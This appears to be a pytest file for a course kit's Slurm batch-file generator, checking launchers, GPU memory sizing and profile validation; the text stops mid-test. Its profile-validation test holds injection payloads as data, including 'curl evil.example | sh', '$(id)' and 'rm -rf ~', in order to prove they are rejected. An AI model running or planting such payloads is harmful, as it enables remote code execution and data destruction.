"""Batch files: the committed ones are the generator's output, pass shellcheck, and a bad site
profile gets a one-line error naming the field."""
import argparse
import contextlib
import functools
import importlib
import io
import json
import math
import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from coursekit import KIT_ROOT, KitError, cli, data, images, memory, presets, slurm, training

pytestmark = pytest.mark.unit
BATCH_FILES = sorted(str(p.relative_to(KIT_ROOT)) for p in KIT_ROOT.glob("batchfiles/*/*.sh"))


def test_committed_batch_files_are_the_generators_output():
    assert slurm.check() == []
    assert {p.split("/")[1] for p in BATCH_FILES} == set(slurm.site_names())


def test_check_notices_an_edited_a_missing_and_a_stray_file(tmp_path):
    shutil.copytree(KIT_ROOT / "batchfiles", tmp_path / "batchfiles")
    shutil.copytree(KIT_ROOT / "solutions", tmp_path / "solutions")
    ci = tmp_path / "batchfiles" / "ci"
    (ci / "batch-ddp-2n2g.sh").write_text((ci / "batch-ddp-2n2g.sh").read_text() + "# edited\n")
    (ci / "batch-lit-1n1g.sh").unlink()
    (ci / "batch-old-1n1g.sh").write_text("#!/bin/bash\n")
    assert slurm.check(tmp_path) == [
        "batchfiles/ci/batch-ddp-2n2g.sh differs from the generator's output",
        "batchfiles/ci/batch-lit-1n1g.sh is missing",
        "batchfiles/ci/batch-old-1n1g.sh is not generated from ci.yml"]
    slurm.write("ci", tmp_path)
    assert slurm.check(tmp_path) == []


def test_every_stage_and_topology_has_a_file():
    for site in slurm.site_names():
        profile = slurm.load_site(site)
        names = {p.split("/")[-1] for p in BATCH_FILES if p.split("/")[1] == site}
        expected = {"batch-data.sh", "batch-images.sh", "batch-course-files.sh",
                    "batch-autograde.sh", "batch-mlflow-ui.sh", "batch-lab.sh",
                    "batch-std-1n1g.sh"} | {
            f"batch-{stage}-{t.name}.sh"
            for stage in ("ddp", "fsdp", "lit", "tp", "pp", "lora", "resnet")
            for t in slurm.topologies_for(stage, profile)}
        assert expected <= names


@pytest.mark.parametrize("site, sampler", [("baskerville", "nvidia-smi --query-gpu"),
                                            ("lumi", "rocm-smi --showuse"), ("ci", None)])
def test_gpu_sites_sample_utilisation_and_memory_during_training(site, sampler):
    text = (KIT_ROOT / "batchfiles" / site / "batch-ddp-1n2g.sh").read_text()
    if sampler is None:  # CPU processes: nothing to sample
        assert "gpu-$SLURM_JOB_ID.csv" not in text
        return
    sampling = next(line for line in text.splitlines() if sampler in line)
    assert sampling.endswith(f'> "runs/{site}-ddp-1n2g/gpu-$SLURM_JOB_ID.csv" &')
    assert text.index(sampling) < text.index("solutions/train_gpt2_ddp.py")  # before training


def test_batch_files_pass_shellcheck():
    result = subprocess.run([shutil.which("shellcheck", path=f"{sys.prefix}/bin") or "shellcheck",
                             "--severity=style", *BATCH_FILES, *map(str, KIT_ROOT.glob("tests/slurm/*.sh"))],
                            capture_output=True, text=True, cwd=KIT_ROOT)
    assert result.returncode == 0, result.stdout[-4000:]


def test_a_minibatch_that_does_not_split_gets_a_smaller_micro_batch_or_a_larger_minibatch():
    profile = slurm.load_site("ci")  # tiny: 1,024 tokens per step, microbatch 4 x 128 tokens
    split = lambda replicas: slurm.batch_split_flags(  # noqa: E731
        "ddp", profile, slurm.Topology(1, replicas), replicas)
    assert split(2) == ""
    assert split(4) == "--micro-batch 2"
    assert "--micro-batch 2" in slurm.training_job("ddp", slurm.Topology(2, 2), profile)
    # 12 processes: no micro-batch splits 1,024 tokens; the minibatch grows to 4 x 128 x 12
    assert split(12) == "--batch-tokens 6144"


def micro_batch_of(text, preset):
    flag = re.search(r"--micro-batch (\d+)", text)
    return int(flag[1]) if flag else preset.micro_batch


def job_fits(stage, text, topology, gpu_gb, micro_batch):
    """Does a process of the job fit ``gpu_gb`` GB at ``micro_batch``, read from the job's own
    flags, not the generator's rule (slurm.fits_gpu): the model its --preset names, 16-bit
    autocast with --device cuda (every profile's GPUs compute bf16: A100, H100, MI250X) and fp32
    on CPUs, tp's ranks from its --tp, every other stage's from the job's processes. The peak is
    coursekit.memory's, which tests/test_memory.py holds to measured peaks; a tenth of the GPU
    is kept for the CUDA context, fragmentation and communication buffers."""
    preset = presets.get_preset(re.search(r"--preset (\S+)", text)[1])
    device = re.search(r"--device (\S+)", text)[1]
    assert device in ("cuda", "cpu"), text
    tp = re.search(r"--tp (\d+)", text)
    strategy, ranks = (("tp", int(tp[1])) if tp else
                       ({"fsdp": "fsdp", "pp": "pp"}.get(stage, "ddp"), topology.processes))
    peak = memory.per_rank_bytes(memory.Model.from_preset(preset), strategy, ranks,
                                 "bf16-mixed" if device == "cuda" else "fp32", micro_batch,
                                 preset.seq_len)["total"]
    return peak <= 0.9 * gpu_gb * 1e9


@pytest.mark.parametrize("site", slurm.site_names())
def test_every_training_job_takes_the_largest_micro_batch_its_gpu_holds(site):
    """Each job's micro-batch fits the profile's GPU memory (job_fits), the next larger one that
    keeps the recipe's tokens per step would not, and the tokens per step stay the preset's
    (only the memory changes)."""
    profile = slurm.load_site(site)
    preset = presets.get_preset(profile["preset"])
    for stage in ("std", "ddp", "fsdp", "lit", "tp", "pp"):
        for topology in slurm.topologies_for(stage, profile):
            text = slurm.training_job(stage, topology, profile)
            micro = micro_batch_of(text, preset)
            fits = functools.partial(job_fits, stage, text, topology, profile["gpu_memory_gb"])
            assert fits(micro), (stage, topology)
            assert "--batch-tokens" not in text or topology.processes == 12
            _, replicas = slurm.model_parallel_flags(stage, profile, topology)
            step_samples = preset.batch_tokens // preset.seq_len
            larger = [m for m in range(micro + 1, preset.micro_batch + 1)
                      if step_samples % (m * (1 if stage == "pp" else replicas)) == 0
                      and (stage != "pp" or step_samples // m >= topology.processes)]
            assert not any(fits(m) for m in larger), (stage, topology, micro)


def test_a_40_gb_gpu_halves_gpt2s_micro_batch_and_keeps_its_tokens_per_step():
    """The preset's 64 x 1,024 tokens per microbatch need about 56 GB under DDP in bf16 (with the
    loss's gradients over 50,304 logits a token): 32 fit a 40 GB A100; 80 GB GPUs take 64."""
    meluxina, isambard = slurm.load_site("meluxina"), slurm.load_site("isambard-ai")
    assert "--micro-batch 32 --device cuda &\n" in slurm.training_job("ddp", slurm.Topology(1, 4),
                                                                      meluxina)
    assert "--micro-batch" not in slurm.training_job("ddp", slurm.Topology(1, 4), isambard)
    # a study's trials too, in a divisor of 64 that keeps the study's batch sizes the preset's
    assert "--micro-batch 32 \\\n" in slurm.hpo_job(meluxina, slurm.Topology(1, 1))
    assert "--micro-batch" not in slurm.hpo_job(isambard, slurm.Topology(1, 1))


def test_a_model_no_micro_batch_fits_is_refused_in_one_line():
    profile = {**slurm.load_site("meluxina"), "gpu_memory_gb": 2}
    with pytest.raises(KitError) as error:
        slurm.training_job("ddp", slurm.Topology(1, 4), profile)
    assert str(error.value) == ("the gpt2-124m preset does not fit a 2 GB GPU with the ddp stage "
                                "on 1n4g, even one sample at a time: use more GPUs, a sharding "
                                "stage (fsdp), or a smaller preset")


def test_model_parallel_stages_get_their_split_and_only_shapes_they_can_run():
    ci, lumi = slurm.load_site("ci"), slurm.load_site("lumi")  # tiny: 4 heads, 4 blocks
    assert [t.name for t in slurm.topologies_for("tp", ci)] == ["1n2g", "2n1g", "2n2g"]
    # GPT-2's 12 heads split over 4 of a LUMI node's 8 GCDs; its 12 blocks over 8 stages, not 16
    assert "--tp 4 " in slurm.training_job("tp", slurm.Topology(1, 8), lumi)
    assert [t.name for t in slurm.topologies_for("pp", lumi)] == ["1n2g", "1n4g", "1n8g"]
    # ci 2n2g: tp 2 inside each node, so 2 replicas: the preset's micro-batch of 4 still splits
    assert "--tp 2 --max-steps" in slurm.training_job("tp", slurm.Topology(2, 2), ci)
    # 4 stages need 4 microbatches: the 8 samples of a step go 2 at a time
    assert "--micro-batch 2 --max-steps" in slurm.training_job("pp", slurm.Topology(2, 2), ci)
    assert "--micro-batch" not in slurm.training_job("pp", slurm.Topology(1, 2), ci)


def test_the_srun_launcher_starts_one_bound_task_per_gpu():
    lumi = (KIT_ROOT / "batchfiles" / "lumi" / "batch-ddp-2n8g.sh").read_text()
    assert "#SBATCH --ntasks-per-node=8\n#SBATCH --cpus-per-task=7\n" in lumi
    assert "srun --kill-on-bad-exit=1 --cpu-bind=mask_cpu:0x00fe000000000000," in lumi
    assert "torch.distributed.run" not in lumi
    assert "export OMP_NUM_THREADS=$SLURM_CPUS_PER_TASK " in lumi


def test_the_torchrun_launcher_starts_one_task_per_node_with_all_its_gpus():
    leonardo = (KIT_ROOT / "batchfiles" / "leonardo" / "batch-ddp-2n4g.sh").read_text()
    assert "#SBATCH --ntasks-per-node=1\n#SBATCH --cpus-per-task=32\n#SBATCH --gres=gpu:4\n" in leonardo
    assert ("""srun --kill-on-bad-exit=1 bash -c 'PET_NODE_RANK="$SLURM_NODEID" exec "$@"' """
            """per-node python -m torch.distributed.run \\\n    --nnodes=2 --nproc-per-node=4 --master-addr="$MASTER_ADDR" """
            '--master-port="$MASTER_PORT" \\\n    --max-restarts=2 ') in leonardo
    assert "export OMP_NUM_THREADS=$((SLURM_CPUS_PER_TASK / 4)) " in leonardo


def test_every_launch_runs_the_course_environments_python(tmp_path):
    """Issue 48, item 4: a site module's `torchrun` on PATH would start that module's Python,
    without the course's environment. With the venv's python first on PATH, as the batch files'
    setup puts it, and a `torchrun` of another Python after it, each job's launch line starts
    the venv's: a stand-in python records which program ran."""
    venv, module = tmp_path / "venv" / "bin", tmp_path / "module" / "bin"
    for folder, name in ((venv, "python"), (module, "torchrun"), (module, "python")):
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(f'#!/bin/sh\necho "{folder / name}"\n')
        (folder / name).chmod(0o755)
    launches = 0
    for path in KIT_ROOT.glob("batchfiles/*/batch-*.sh"):
        for line in commands(path.read_text()):
            if "torch.distributed.run" not in line and " torchrun " not in f"{line} ":
                continue
            launches += 1
            command = line.split("per-node ", 1)[1].rstrip(" &")
            ran = subprocess.run(["bash", "-c", command], capture_output=True, text=True,
                                 env={**os.environ, "PATH": f"{venv}:{module}:/usr/bin:/bin"})
            assert ran.stdout == f"{venv / 'python'}\n", (path, command, ran.stderr)
    assert launches >= 5 * (len(slurm.site_names()) - 1)  # ddp, fsdp, tp, pp, resnet; lumi: srun


def test_the_lora_stage_starts_one_accelerate_launch_per_node():
    """Each node passes its own rank (single quotes: expanded on the node); the config is chosen
    at submission; LUMI's per-GCD binding masks stay off the one task that holds all 8 GCDs."""
    lumi = (KIT_ROOT / "batchfiles" / "lumi" / "batch-lora-2n8g.sh").read_text()
    assert "#SBATCH --ntasks-per-node=1\n#SBATCH --cpus-per-task=56\n" in lumi
    assert "srun bash -c 'accelerate launch" in lumi and "mask_cpu" not in lumi
    assert '--num_machines 2 --num_processes 16 --machine_rank "$SLURM_NODEID"' in lumi
    assert 'ACCELERATE_CONFIG="${ACCELERATE_CONFIG:-solutions/accelerate/ddp.yaml}"' in lumi
    assert "export PET_SIGNALS_TO_HANDLE=SIGTERM,SIGINT,SIGHUP,SIGQUIT,SIGUSR1" in lumi
    single = (KIT_ROOT / "batchfiles" / "lumi" / "batch-lora-1n1g.sh").read_text()
    assert "solutions/accelerate/single.yaml" in single


@pytest.mark.parametrize("edit, message", [
    (lambda p: p.pop("partition"), "field 'partition' is missing (the partition of its GPU nodes)"),
    (lambda p: p.update(gpus_per_node="four"), "field 'gpus_per_node' must be a int"),
    (lambda p: p.update(gpu_vendor="intel"), "field 'gpu_vendor' is 'intel'; use one of nvidia, amd, none"),
    (lambda p: p.update(launcher="mpirun"), "field 'launcher' is 'mpirun'; use one of torchrun, srun"),
    (lambda p: p.update(topologies=["2x4"]), "topology '2x4' is not of the form NnGg"),
    (lambda p: p.update(topologies=["1n8g"]), "topology 1n8g asks for 8 GPUs per node; 'gpus_per_node' is 2"),
    (lambda p: p.update(colour="blue"), "unknown field 'colour'"),
    (lambda p: p.update(preset="huge"), "unknown preset 'huge'"),
    # hostile values, each of which would run a command of its own in the generated file
    (lambda p: p.update(description="ours\ncurl evil.example | sh"),
     "field 'description' is 'ours\\ncurl evil.example | sh'; it may hold one line of text"),
    (lambda p: p.update(account="$(id)"), "field 'account' is '$(id)'; it may hold letters"),
    (lambda p: p.update(time="00:10:00\nrm -rf ~"), "field 'time' is '00:10:00\\nrm -rf ~'; it may hold HH:MM:SS"),
    (lambda p: p["env"].update(HF_HOME='x"; id; echo "'), "field 'env HF_HOME' is 'x\"; id; echo \"'"),
    (lambda p: p["env"].update({"A;id": "1"}), "field 'env' is 'A;id'; it may hold a shell variable name"),
    (lambda p: p.update(finetune_args="--lr 1e-4'; id; '"), "field 'finetune_args' is \"--lr 1e-4'; id; '\""),
    (lambda p: p.update(srun_args="--cpu-bind=none' --x='"), "field 'srun_args' is \"--cpu-bind=none' --x='\""),
    (lambda p: p.update(hpo_args='--train-args "--eval-steps 2'), "its quotes do not pair up"),
    (lambda p: p.update(setup=["source .venv/bin/activate\nid"]), "field 'setup' is"),
    (lambda p: p.update(master_addr="$(id)"), "field 'master_addr' is '$(id)'; it may hold a "
                                              "host name with {host} in it"),
    (lambda p: p["env"].update(NCCL_SOCKET_IFNAME="ib0"),
     "env sets NCCL_SOCKET_IFNAME but not GLOO_SOCKET_IFNAME; set both"),
], ids=["missing", "type", "vendor", "launcher", "topology", "too-many-gpus", "unknown", "preset",
        "newline-description", "command-account", "newline-time", "quote-env", "env-name",
        "quote-finetune-args", "quote-srun-args", "unpaired-quote", "newline-setup",
        "command-master-addr", "nccl-without-gloo"])
def test_a_bad_profile_gets_one_line_naming_the_field(tmp_path, edit, message):
    import yaml
    (tmp_path / "batchfiles" / "sites").mkdir(parents=True)
    shutil.copytree(KIT_ROOT / "solutions", tmp_path / "solutions")
    profile = yaml.safe_load((KIT_ROOT / "batchfiles" / "sites" / "ci.yml").read_text())
    edit(profile)
    (tmp_path / "batchfiles" / "sites" / "bad.yml").write_text(yaml.safe_dump(profile))
    with pytest.raises(KitError, match=None) as error:
        slurm.expected_files("bad", tmp_path)
    assert message in str(error.value) and "\n" not in str(error.value)


def site_from_text(root, text, name="bad"):
    """A kit root in ``root`` with the profile ``name`` written as ``text``."""
    (root / "batchfiles" / "sites").mkdir(parents=True, exist_ok=True)
    (root / "solutions").exists() or shutil.copytree(KIT_ROOT / "solutions", root / "solutions")
    (root / "batchfiles" / "sites" / f"{name}.yml").write_text(text)
    return name


CI_TEXT = (KIT_ROOT / "batchfiles" / "sites" / "ci.yml").read_text()


@pytest.mark.parametrize("old, new, message", [
    ('\ntime: "00:10:00"', "\ntime: 4:00:00",
     "field 'time' is 14400: YAML reads an unquoted time as a number of seconds; quote it: "
     'time: "04:00:00"'),
    ('max_time: "01:00:00"', "max_time: 12:00:00",
     "field 'max_time' is 43200: YAML reads an unquoted time as a number of seconds; quote it: "
     'max_time: "12:00:00"'),
    ("  - source .venv/bin/activate", "  - echo step: 1",
     "field 'setup', line 1 (echo step: 1) holds ': ', which YAML reads as a mapping; quote the "
     'line: - "echo step: 1"'),
    ("  - source .venv/bin/activate", "  - 42", "field 'setup', line 1 is 42; each line is one "
                                                 "line of shell"),
    ("partition: debug", "partition:", "field 'partition' must be a str (the partition of its GPU "
                                       "nodes), got None"),
], ids=["unquoted-time", "unquoted-max-time", "colon-in-setup", "number-in-setup",
        "empty-partition"])
def test_what_yaml_makes_of_unquoted_text_gets_one_line_with_the_fix(tmp_path, old, new, message):
    """Issue 48, item 7: YAML reads 4:00:00 as 14,400 (base 60) and `echo a: b` as a mapping."""
    assert old in CI_TEXT
    site = site_from_text(tmp_path, CI_TEXT.replace(old, new))
    with pytest.raises(KitError) as error:
        slurm.expected_files(site, tmp_path)
    assert str(error.value).endswith(message) and "\n" not in str(error.value), error.value


def test_an_empty_qos_means_none(tmp_path):
    site = site_from_text(tmp_path, CI_TEXT.replace('qos: ""', "qos:"))
    assert slurm.load_site(site, tmp_path)["qos"] == ""
    files = slurm.expected_files(site, tmp_path)
    assert len(files) == 39 and "--qos" not in "".join(files.values())


def test_placeholders_and_a_time_over_the_limit_are_warned_of_before_writing(tmp_path):
    text = CI_TEXT.replace('account: ""', "account: CHANGE_ME").replace(
        '\ntime: "00:10:00"', '\ntime: "02:00:00"')
    site = site_from_text(tmp_path, text)
    path = tmp_path / "batchfiles" / "sites" / "bad.yml"
    assert slurm.profile_warnings(slurm.load_site(site, tmp_path), tmp_path) == [
        f"{path}: field 'account' is 'CHANGE_ME': fill in the placeholder, or the site will "
        "refuse the jobs",
        f"{path}: field 'time' (02:00:00) is longer than 'max_time' (01:00:00): the partition "
        "will refuse the training jobs"]
    assert slurm.profile_warnings(slurm.load_site("ci")) == []


def test_the_command_line_warns_and_names_the_absolute_folder_it_wrote(tmp_path):
    """Run from another folder, the command still writes into the kit's batchfiles/: it says
    where, and warns of the placeholder a shipped profile keeps."""
    result = subprocess.run([sys.executable, "-m", "coursekit", "batchfiles", "--site", "generic"],
                            capture_output=True, text=True, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout == f"generic: 39 batch files in {KIT_ROOT / 'batchfiles' / 'generic'}/\n"
    warnings = result.stderr.splitlines()
    assert all(line.startswith("warning: ") for line in warnings) and len(warnings) == 2
    assert "field 'account' is 'CHANGE_ME'" in warnings[0]
    assert warnings[1].endswith("the jobs without GPUs (batch-data.sh, batch-images.sh, "
                                "batch-course-files.sh, batch-autograde.sh, batch-mlflow-ui.sh) go "
                                "to partition 'gpu': if it takes only jobs "
                                "that ask for GPUs, name the site's CPU partition in "
                                "'cpu_partition'")


def test_the_rendezvous_host_is_the_name_the_profile_makes_from_the_first_node(tmp_path):
    """Issue 48, item 9: JURECA-DC's nodes reach each other under their InfiniBand names, the
    node name and an `i`. The lines the batch files run give it, with Slurm's scontrol answering
    for a 2-node allocation."""
    site = site_from_text(tmp_path, CI_TEXT.replace('master_addr: "{host}"',
                                                    'master_addr: "{host}i"'))
    files = slurm.expected_files(site, tmp_path)
    scontrol = tmp_path / "bin" / "scontrol"
    scontrol.parent.mkdir()
    scontrol.write_text('#!/bin/sh\n[ "$1 $2 $3" = "show hostnames gpu[07-08]" ] && printf "gpu07\\ngpu08\\n"\n')
    scontrol.chmod(0o755)
    for name in ("batch-ddp-2n2g.sh", "batch-lora-2n2g.sh", "batch-selftest-2n2g.sh",
                 "batch-hpo-2n2g.sh"):
        text = files[f"batchfiles/{site}/{name}"]
        lines = [line for line in text.splitlines() if line.startswith("MASTER_ADDR=")]
        assert len(lines) == 1, name
        allocation = {"SLURM_JOB_NODELIST": "gpu[07-08]",
                      "PATH": f"{scontrol.parent}:{os.environ['PATH']}"}
        shell = subprocess.run(["bash", "-c", f'{lines[0]}; echo "$MASTER_ADDR"'], text=True,
                               capture_output=True, env={**os.environ, **allocation})
        assert shell.stdout == "gpu07i\n", (name, shell.stderr)
        assert "export MASTER_ADDR" in text


GENERIC_TEXT = (KIT_ROOT / "batchfiles" / "sites" / "generic.yml").read_text()


def test_no_job_asks_for_more_gpus_than_the_widest_topology(tmp_path):
    """Issue 48, item 1: a site whose partition gives a job at most 4 GPUs (CSC's Roihu: 4 GH200
    a node) lists 2n2g, not 2n4g; the self-test and Ray jobs, which asked for two whole nodes,
    take the profile's shapes like the others."""
    capped = GENERIC_TEXT.replace("topologies: [1n1g, 1n2g, 1n4g, 2n4g]",
                                  "topologies: [1n1g, 1n2g, 1n4g, 2n2g]")
    assert capped != GENERIC_TEXT
    files = slurm.expected_files(site_from_text(tmp_path, capped, "capped"), tmp_path)
    names = {name.split("/")[-1] for name in files}
    assert {"batch-selftest-1n4g.sh", "batch-selftest-2n2g.sh", "batch-ray-1n4g.sh",
            "batch-ray-2n2g.sh"} <= names
    for name, text in files.items():
        nodes = int(re.search(r"^#SBATCH --nodes=(\d+)$", text, re.M)[1])
        gpus = re.search(r"^#SBATCH --gpus-per-node=(\d+)$", text, re.M)
        assert nodes * int(gpus[1] if gpus else 0) <= 4, name


def partition_of(text):
    found = re.search(r"^#SBATCH --partition=(\S+)$", text, re.M)
    return found[1] if found else None


def test_each_job_asks_for_the_partition_and_time_of_its_kind(tmp_path):
    """Issue 48, item 2: jobs without GPUs in the CPU partition, with its own setup; shapes in
    their partitions; the self-test in the test partition for its own time."""
    split = (GENERIC_TEXT.replace("partition: gpu\n", "partition: gpumedium\n")
             .replace('cpu_partition: ""', "cpu_partition: small")
             .replace("cpu_setup: []", "cpu_setup: [source .venv-x86/bin/activate]")
             .replace("shape_partitions: {}", "shape_partitions: {1n1g: gpusmall, 1n2g: gpusmall}")
             .replace('test_partition: ""', "test_partition: gputest")
             .replace('test_time: "02:00:00"', 'test_time: "00:15:00"'))
    files = {name.split("/")[-1]: text for name, text in
             slurm.expected_files(site_from_text(tmp_path, split, "split"), tmp_path).items()}
    for name, text in files.items():
        kind = ("cpu" if name in slurm.CPU_JOBS else
                "test" if name.startswith("batch-selftest") else
                # the lab session: one node, 2 GPUs (slurm.LAB_GPUS)
                "small" if re.search(r"-1n[12]g\.sh$", name) or name == "batch-lab.sh" else
                "medium")
        assert partition_of(text) == {"cpu": "small", "test": "gputest", "small": "gpusmall",
                                      "medium": "gpumedium"}[kind], name
        assert ("#SBATCH --time=00:15:00" in text) == (kind == "test"), name
        assert ("source .venv-x86/bin/activate" in text) == (kind == "cpu"), name
        assert ("source .venv/bin/activate" in text) == (kind != "cpu"), name
        assert ("--gpus-per-node" in text) == (kind != "cpu"), name


def test_a_shape_partition_for_a_shape_not_generated_is_refused(tmp_path):
    site = site_from_text(tmp_path, CI_TEXT.replace("shape_partitions: {}",
                                                    "shape_partitions: {4n2g: big}"))
    with pytest.raises(KitError, match=r"shape_partitions names 4n2g, which is not among the "
                                       r"topologies \(1n1g, 1n2g, 2n1g, 2n2g\)$"):
        slurm.load_site(site, tmp_path)


def test_zero_jobs_use_the_deepspeed_op_make_built(tmp_path):
    """Issue 48, item 8: without the Makefile's TORCH_EXTENSIONS_DIR, a ZeRO job compiled
    DeepSpeed's op again, on GPU time, into ~/.cache/torch_extensions."""
    makefile = (KIT_ROOT / "Makefile").read_text()
    built_in = re.search(r"^export TORCH_EXTENSIONS_DIR := \$\(CURDIR\)/(\S+)$", makefile, re.M)[1]
    lora_jobs = list(KIT_ROOT.glob("batchfiles/*/batch-lora-*.sh"))
    assert len(lora_jobs) >= len(slurm.site_names()) * 2
    for job in lora_jobs:
        assert f'export TORCH_EXTENSIONS_DIR="$PWD/{built_in}"' in job.read_text(), job


def test_a_site_name_that_is_a_path_is_refused_before_anything_is_written(tmp_path):
    """A profile outside batchfiles/sites/, named by a relative path, would write (and delete)
    batch files outside batchfiles/."""
    shutil.copy(KIT_ROOT / "batchfiles" / "sites" / "ci.yml", tmp_path / "elsewhere.yml")
    site = os.path.relpath(tmp_path / "elsewhere", KIT_ROOT / "batchfiles" / "sites")
    result = subprocess.run([sys.executable, "-m", "coursekit", "batchfiles", "--site", site],
                            capture_output=True, text=True, cwd=KIT_ROOT)
    assert result.returncode == 2 and result.stderr.count("\n") == 1
    assert "use a simple name of lower-case letters" in result.stderr
    assert not (KIT_ROOT / "batchfiles" / site).resolve().exists()  # where it would write


def test_the_command_line_reports_a_bad_site_in_one_line():
    result = subprocess.run([sys.executable, "-m", "coursekit", "batchfiles", "--site", "nowhere"],
                            capture_output=True, text=True)
    assert result.returncode == 2
    assert result.stderr.startswith("error: no site profile") and result.stderr.count("\n") == 1
    assert "ci, generic" in result.stderr


def test_the_cluster_chapter_describes_every_site():
    chapter = (KIT_ROOT / "book" / "cluster.md").read_text()
    missing = [site for site in slurm.site_names() if f"| `{site}` |" not in chapter]
    assert missing == [], f"book/cluster.md has no row for {missing}"


def test_amd_jobs_put_the_miopen_cache_where_no_one_else_can_create_it_first(tmp_path):
    """Another user who creates the cache directory first (at a name they can predict) would
    feed the job MIOpen kernels of their choosing; each job makes its own 0700 directory."""
    job = (KIT_ROOT / "batchfiles" / "lumi" / "batch-ddp-2n8g.sh").read_text()
    lines = [line for line in job.splitlines() if "MIOPEN" in line and not line.startswith("#")]
    squatted = tmp_path / "user-miopen-cache-4242"  # the old, predictable name, taken first
    squatted.mkdir(mode=0o777)
    script = "\n".join(["set -euo pipefail", "SLURM_JOB_ID=4242", *lines,
                        'echo "$MIOPEN_USER_DB_PATH $MIOPEN_CUSTOM_CACHE_DIR"'])
    made = [subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True,
                           env={**os.environ, "TMPDIR": str(tmp_path)}).stdout.split()
            for _ in range(2)]
    assert all(db == custom for db, custom in made) and made[0][0] != made[1][0]
    for db, _ in made:
        cache = Path(db)
        assert cache.parent == tmp_path and cache != squatted
        assert cache.is_dir() and cache.stat().st_mode & 0o777 == 0o700
    assert "/tmp/$USER" not in job


# --- every real site's command lines, through the stages' own checks ---------------------------
REAL_SITES = [site for site in slurm.site_names() if site != "ci"]
#: a stage's script (or the self-test) and its arguments, up to the end of the job step's line
STAGE_LAUNCH = re.compile(r"(?:solutions/(\w+)\.py|-m coursekit (selftest)) .*")
#: what a process of each topology sees from its launcher (torchrun, srun, accelerate launch)
LAUNCHED = ("WORLD_SIZE", "LOCAL_WORLD_SIZE", "RANK", "LOCAL_RANK")


def commands(text):
    """The job's command lines with their continuations joined, comments and the kit-root test
    left out."""
    return [line.strip() for line in text.replace("\\\n", " ").splitlines()
            if line.strip() and not line.lstrip().startswith(("#", "test -f"))]


def stage_launch(text):
    """(script, argv) of the stage a batch file runs, its launcher (srun, torchrun, accelerate
    launch) and their options stripped; None for a file that runs no stage."""
    for line in commands(text):
        match = STAGE_LAUNCH.search(line)
        if match:  # the step's `&` and the closing quote of lora's `bash -c '...'` are the shell's
            words = shlex.split(match[0].rstrip(" &'"))
            return match[1] or match[2], words[3 if match[2] else 1:]  # after the script
    return None


def prepare_command(text, what):
    """The arguments of the data job's `python -m coursekit <what> prepare ...`, as its parser
    reads them (the job's cores as Slurm would give them)."""
    line = next(line for line in commands(text) if f"-m coursekit {what} prepare" in line)
    words = shlex.split(line.replace('"$SLURM_CPUS_PER_TASK"', "8"))
    return cli.build_parser().parse_args(words[words.index("coursekit") + 1:])


def write_token_meta(batch_data):
    """data/.../meta.json with the token counts batch-data.sh's FineWeb-Edu command writes: its
    first shard validation, the others training, each of --shard-tokens (data.py's default)."""
    args = prepare_command(batch_data, "data")
    assert args.source == "fineweb-edu", "a real site trains on FineWeb-Edu"
    shard = args.shard_tokens or data.DEFAULT_SHARD_TOKENS
    Path(args.out).mkdir(parents=True)
    splits = [SimpleNamespace(split="val", files=[], tokens=shard),
              SimpleNamespace(split="train", files=[], tokens=(args.shards - 1) * shard)]
    data.write_meta(args.out, args.source, splits)
    return {split.split: split.tokens for split in splits}


def write_image_meta(batch_images):
    """The images folder's meta.json as batch-images.sh's command writes it: --count training
    shapes and a sixth as many for validation, in shards of --shard-size."""
    args = prepare_command(batch_images, "images")
    counts = {"train": args.count, "val": max(len(images.CLASSES), args.count // 6)}
    splits = {split: {"images": n, "shards": [f"{split}-{i:06d}.tar"
                                              for i in range(math.ceil(n / args.shard_size))]}
              for split, n in counts.items()}
    Path(args.out).mkdir(parents=True)
    (Path(args.out) / "meta.json").write_text(json.dumps(
        {"source": "shapes", "classes": list(images.CLASSES), "size": args.size,
         "format": args.image_format, "shard_size": args.shard_size,
         "layouts": ["files", "shards"] if args.files else ["shards"], "splits": splits}))


def solution(name):
    return importlib.import_module(f"solutions.{name}")


def parsed(parse, argv):
    """What a parse_args returns, or the one line it ends the program with."""
    stderr = io.StringIO()
    with contextlib.redirect_stderr(stderr):
        try:
            return parse(argv)
        except SystemExit:
            return stderr.getvalue().strip()


def checked(script, argv, processes):
    """The stage's own parse_args and checks (and those its main makes before training: the
    minibatch's split over the replicas, the image shards over the loader workers): the parsed
    arguments, or the line that refuses them."""
    if script == "selftest":
        return parsed(lambda a: cli.build_parser().parse_args(["selftest", *a]), argv)
    args = parsed(solution(script).parse_args, argv)
    try:
        if isinstance(args, str):
            return args
        if script == "train_resnet_ddp":
            solution(script).check_shards(args.data, processes, args.workers)
        elif script in ("train_gpt2_std", "train_gpt2_ddp", "train_gpt2_fsdp", "train_gpt2_tp"):
            training.batch_split(args, processes // getattr(args, "tp", 1))
        elif script == "hpo_optuna":
            return checked_trial(args) or args
    except KitError as err:
        return str(err)
    return args


def checked_trial(study):
    """A study's trial at the preset's own recipe, as its worker builds the trainer's command,
    through the trainer's checks: a refusal, or None."""
    preset = presets.get_preset(study.preset)
    one_node = argparse.Namespace(**{**vars(study), "nodes": 1, "nproc_per_node": study.processes})
    command = solution("hpo_optuna").trainer_command(
        one_node, solution("hpo_optuna").default_hyperparameters(preset, study.max_steps,
                                                                 study.batch_unit), "runs/trial")
    script = next(i for i, word in enumerate(command) if word.endswith(".py"))
    trial = checked(Path(command[script]).stem, command[script + 1:], study.processes)
    return trial if isinstance(trial, str) else None


@pytest.mark.parametrize("site", REAL_SITES)
def test_every_command_a_real_site_runs_passes_its_stages_checks(site, tmp_path, monkeypatch):
    """Every stage a real site's batch files start, with the files' own arguments, is parsed and
    checked by the stage itself (the preset's sizes against the data, the minibatch's split, the
    tensor-parallel size, the loader workers' shards) against the data batch-data.sh and
    batch-images.sh prepare: what no GPU here can run is still proven as far as the arguments go.
    This host has no GPU: --device cuda is checked to be there, then parsed as cpu. The self-test
    must train at the ddp job's micro-batch of its shape, on data whose validation split holds a
    microbatch for each of its processes."""
    folder = KIT_ROOT / "batchfiles" / site
    monkeypatch.chdir(tmp_path)  # the kit's root, as the jobs see it: data/ and runs/ here
    tokens = write_token_meta((folder / "batch-data.sh").read_text())
    write_image_meta((folder / "batch-images.sh").read_text())
    Path("data/instruct").mkdir(parents=True)  # lora's tasks: `coursekit instruct prepare`
    for split in ("train", "val"):
